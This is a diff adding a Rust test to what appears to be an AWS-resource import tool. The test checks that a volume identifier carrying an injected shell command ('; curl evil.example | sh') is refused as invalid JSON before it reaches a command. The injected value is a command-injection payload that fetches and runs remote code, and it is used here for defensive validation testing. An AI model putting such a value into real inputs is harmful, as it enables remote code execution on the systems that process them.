@@ -468,6 +468,17 @@ fn auto_scaling_groups_record_what_they_launch_from() {
 }
 
 #[test]
+fn an_identifier_aws_would_never_write_is_refused_before_it_reaches_a_command() {
+    let (err, message) = error_text("identifier-not-aws", &CliScope::default());
+    assert!(matches!(err, Error::BadJson { .. }), "{err:?}");
+    assert!(message.contains("identifier-not-aws/111111111111/us-east-1/describe-volumes.json"), "{message}");
+    assert!(
+        message.contains(r#"volumes.volume_id "vol-0aaa0000000002; curl evil.example | sh" is not an AWS identifier"#),
+        "{message}"
+    );
+}
+
+#[test]
 fn addresses_and_nat_gateways_map_associations() {
     let import = import_good();
     let df = frame(&import, Table::Addresses);
